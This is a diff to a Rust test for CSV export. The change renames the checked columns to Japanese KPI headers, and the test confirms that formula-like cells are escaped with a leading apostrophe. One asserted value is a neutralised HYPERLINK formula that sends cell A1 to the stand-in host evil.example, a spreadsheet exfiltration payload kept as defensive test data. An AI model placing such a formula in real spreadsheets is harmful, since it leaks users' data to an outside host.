@@ -359,7 +359,16 @@ fn csv_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers() {
     let column = |name: &str| header.iter().position(|h| h == name).unwrap();
     let kpi1: Vec<&Vec<String>> = rows[1..].iter().filter(|r| r[0] == "1").collect();
     assert_eq!(kpi1.len(), 3);
-    let numeric = ["no", "fiscal_year", "target", "actual", "rate"];
+    let numeric = [
+        "指標番号",
+        "西暦年度",
+        "基準値",
+        "基準値の西暦年度",
+        "目標値",
+        "実績値",
+        "年度末見込値",
+        "達成率・進捗率（%）",
+    ];
     for row in rows[1..].iter() {
         for (name, cell) in header.iter().zip(row) {
             if numeric.contains(&name.as_str()) {
@@ -378,18 +387,18 @@ fn csv_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers() {
     // Neutralised as OWASP recommends: a leading ', the text otherwise kept.
     let (r3, r4, r5) = (kpi1[0], kpi1[1], kpi1[2]);
     assert_eq!(
-        r3[column("indicator")],
+        r3[column("指標名")],
         "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
     );
-    assert_eq!(r3[column("unit")], "'+1");
+    assert_eq!(r3[column("単位")], "'+1");
     // (A note that starts with a carriage return is refused as a control character at load:
     // tests/bad-input/control-*.)
-    assert_eq!(r3[column("note")], "'-1+1");
-    assert_eq!(r4[column("note")], "'\t=1+1");
-    assert_eq!(r5[column("indicator")], "'-2+3");
-    assert_eq!(r5[column("pending")], "'@SUM(A1:A9)");
-    assert_eq!(r3[column("actual")], "-2000");
-    assert_eq!(r3[column("rate")], "-125.0");
+    assert_eq!(r3[column("備考")], "'-1+1");
+    assert_eq!(r4[column("備考")], "'\t=1+1");
+    assert_eq!(r5[column("指標名")], "'-2+3");
+    assert_eq!(r5[column("判定できない理由")], "'@SUM(A1:A9)");
+    assert_eq!(r3[column("実績値")], "-2000");
+    assert_eq!(r3[column("達成率・進捗率（%）")], "-125.0");
 }
 
 #[test]
